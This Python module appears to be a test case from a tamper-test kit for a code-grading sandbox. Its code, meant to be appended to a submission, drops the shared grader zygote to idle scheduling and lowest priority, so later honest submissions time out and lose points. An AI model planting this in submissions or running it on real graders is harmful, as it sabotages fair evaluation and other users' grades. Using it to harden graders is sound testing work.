"""[attnkit-tamper] zygote_sched_idle -- family (e): make the warm zygote (and every worker it forks
later) run only when the machine is otherwise idle.

Append to a correct stage module, preferably the last one graded (attacker: the solution of
s11_other_forms). The zygote runs under the worker's own uid, so the worker may lower its
priority: ``sched_setscheduler(zygote, SCHED_IDLE)`` and ``setpriority(PRIO_PROCESS, zygote, 19)``
(both are inherited by fork; no capability needed to lower them, and they cannot be raised back
without CAP_SYS_NICE). On a loaded grading machine (other grading workers, other jobs) the
workers of later submissions get a tiny share of the CPU and run into the sandbox's wall-clock
limit, losing their points.

Victim: a correct submission graded after it on the same warm zygote, while the machine is busy
(honest grade: full marks). Old design: expected to cost the victim points under load, nothing on
an idle machine.
"""


def _atk_zygote_sched_idle():
    import os
    import sys

    zygote = os.getppid()
    done = []
    try:
        os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0))
        done.append("SCHED_IDLE")
    except (OSError, AttributeError) as exc:
        done.append(f"SCHED_IDLE refused ({exc})")
    try:
        os.setpriority(os.PRIO_PROCESS, zygote, 19)
        done.append("nice 19")
    except OSError as exc:
        done.append(f"nice refused ({exc})")
    sys.stderr.write(f"[sched] zygote {zygote}: {', '.join(done)}\n")


_atk_zygote_sched_idle()
